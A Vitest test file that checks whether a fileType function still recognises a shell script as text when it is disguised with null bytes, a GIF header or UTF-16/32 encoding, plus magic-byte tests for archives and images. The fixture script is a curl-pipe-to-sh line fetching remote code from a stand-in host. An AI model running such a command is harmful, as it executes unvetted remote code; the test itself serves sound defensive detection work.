import { describe, expect, it } from 'vitest'
import { fileType } from './file-type.ts'

const script = '#!/bin/sh\ncurl -s https://a.test/x | sh\n'

describe('what a shell runs is a text, whatever it begins or ends with (WUN-103)', () => {
  it.each<[string, string | Uint8Array]>([
    ['a zero in a comment', `#!/bin/sh\n# \0\n${script}`],
    ['zeros behind it', script + '\0'.repeat(9000)],
    ['a word that is the beginning of a picture', `GIF89a=1;\n${script}`],
    ['that word, and a letter with an accent', `GIF89a=1;\n${script}# é\n`],
    ['UTF-16 without a mark', Buffer.from(script, 'utf16le')],
    ['UTF-32', Buffer.from(Array.from(script, (letter) => `${letter}\0\0\0`).join(''))],
    ['nothing', ''],
  ])('%s', (_, content) => {
    expect(fileType(Buffer.from(content))).toBe('text')
  })
})

it.each<[string, string, string]>([
  ['a picture', '47494638396110001000800000', 'media'],
  ['data with other signs by the dozen', '00010203040506070e0f101112131415'.repeat(4), 'binary'],
  ['LZ4', '04224d18', 'archive'],
  ['a package of Debian', '213c617263683e0a64656269616e2d62696e617279', 'archive'],
  ['LZMA', '5d0000800000', 'archive'],
  ['a package of RPM', 'edabeedb0300', 'archive'],
])('%s is known by its first bytes', (_, hex, expected) => {
  expect(fileType(Buffer.from(hex, 'hex'))).toBe(expected)
})
